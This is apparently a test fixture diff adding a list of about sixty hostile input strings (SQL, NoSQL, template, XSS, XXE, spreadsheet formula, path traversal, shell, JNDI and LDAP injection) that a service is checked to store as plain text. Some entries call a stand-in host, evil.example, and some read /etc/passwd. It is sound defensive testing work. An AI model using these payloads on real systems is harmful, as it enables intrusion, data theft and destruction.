@@ -1,0 +1,73 @@
+// Sixty texts that attack: a proper service keeps them as the texts they are.
+
+/** Stands in each of them, so that nobody can overlook one in a statement: no column, table or name of ours holds it. */
+export const MARK = 'zq9';
+
+export const HOSTILE: readonly string[] = [
+  // SQL: out of the quotes, of the list, of the number
+  "' or 'zq9'='zq9",
+  "' or 1=1 -- zq9",
+  '" or "zq9"="zq9',
+  "zq9'; drop table bookings; --",
+  "zq9'); delete from invoices; --",
+  "zq9' union select token_hash from api_keys --",
+  "zq9' union all select null, null, null --",
+  "zq9'||(select password_hash from users limit 1)||'",
+  "zq9' and 1=(select count(*) from users) --",
+  "zq9' and sleep(5) --",
+  "zq9'; select pg_sleep(5); --",
+  "zq9' or exists(select 1 from sqlite_master) --",
+  "zq9'; attach database '/tmp/zq9.db' as x; --",
+  "zq9'; copy users to '/tmp/zq9'; --",
+  "zq9\\' or 1=1 --",
+  'zq9"; drop table users; --',
+  'zq9`; drop table users; --',
+  'zq9]; drop table users; --',
+  '1 or 1=1 /* zq9 */',
+  '1); drop table users; -- zq9',
+  "1/**/or/**/'zq9'='zq9'",
+  "zq9'/*!50000or*/1=1--",
+  "zq9' order by 1000 --",
+  "zq9' group by 1 having 1=1 --",
+  "zq9' like '%",
+  // Patterns, placeholders and casts
+  '%zq9%',
+  '_zq9_',
+  '%%%zq9',
+  'zq9[a-z]*',
+  'zq9? ?? :zq9 $1 @zq9',
+  "zq9'::regclass",
+  '$zq9$ or 1=1 $zq9$',
+  "E'\\\\x27 zq9'",
+  "N'zq9'",
+  '\\zq9\\\\',
+  // Quotes that are not ASCII, which a careless conversion makes ASCII
+  'zq9\u2019 or 1=1 --',
+  'zq9\uff07 or 1=1 --',
+  'zq9\u02bc; drop table users',
+  'zq9\u00a0or\u00a01=1',
+  'zq9\u202e--\u200b1=1',
+  // JSON, objects and prototypes
+  '{"$ne": "zq9"}',
+  '{"$gt": "", "zq9": 1}',
+  '["zq9"]',
+  '__proto__ zq9',
+  'zq9.constructor.prototype',
+  // Templates, pages and spreadsheets
+  '{{7*7}} zq9',
+  '${7*7} zq9',
+  '#{7*7} <%= 7*7 %> zq9',
+  '<script>alert("zq9")</script>',
+  '"><img src=x onerror=alert(1)> zq9',
+  '<!ENTITY zq9 SYSTEM "file:///etc/passwd">',
+  '=HYPERLINK("https://evil.example/zq9")',
+  '+cmd|zq9!A1',
+  // Files, shells, logs and protocols
+  '../../../../etc/passwd zq9',
+  '..\\..\\zq9.ini',
+  '; cat /etc/passwd # zq9',
+  '$(touch /tmp/zq9) `id`',
+  '${jndi:ldap://evil.example/zq9}',
+  'zq9*)(uid=*))(|(uid=*',
+  '%s%n%x zq9 %00',
+];
